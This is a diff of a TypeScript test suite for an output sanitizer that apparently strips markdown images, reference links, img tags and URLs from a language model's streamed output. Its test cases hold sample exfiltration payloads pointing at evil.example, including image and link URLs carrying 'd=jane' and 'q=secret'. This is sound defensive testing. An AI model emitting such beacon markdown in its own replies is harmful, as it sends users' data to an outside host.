@@ -12,7 +12,12 @@ function send(text: string, size: number): string {
 describe.each([1, 3, 7, 1000])('abuse 22: the output in chunks of %i', (size) => {
   it.each([
     ['Good. ![x](https://evil.example/p.png?d=jane) More.', 'Good. x More.'],
-    ['See ![x][beacon] now.\n\n[beacon]: https://evil.example/p.png\n', 'See x now.'],
+    [
+      'See ![x][beacon] now.\n\n[beacon]: https://evil.example/p.png\n',
+      'See x now.\n\n[beacon] : (address left out)',
+    ],
+    ['See [x] now.\n\n- [x]: //evil.example/', 'See [x] now.\n\n- [x] : //evil.example/'],
+    ['- [LINK_1]: add it', '- [LINK_1] : add it'],
     ['Click [your profile](https://evil.example/?q=secret) today', 'Click your profile today'],
     ['An <img src="https://evil.example/p.png"> tag', 'An  tag'],
     ['Visit https://evil.example/x now', 'Visit (address left out) now'],
@@ -43,7 +48,7 @@ describe('abuse 49: hostile output of the model', () => {
     (text) => {
       const long = text.repeat(100_000 / text.length);
       const shown = send(long, 9);
-      expect(shown).not.toMatch(/!\[|\]\(|<[a-z]|https:/);
+      expect(shown).not.toMatch(/!\[|\][(:]|<[a-z]|https:/);
     },
   );
 
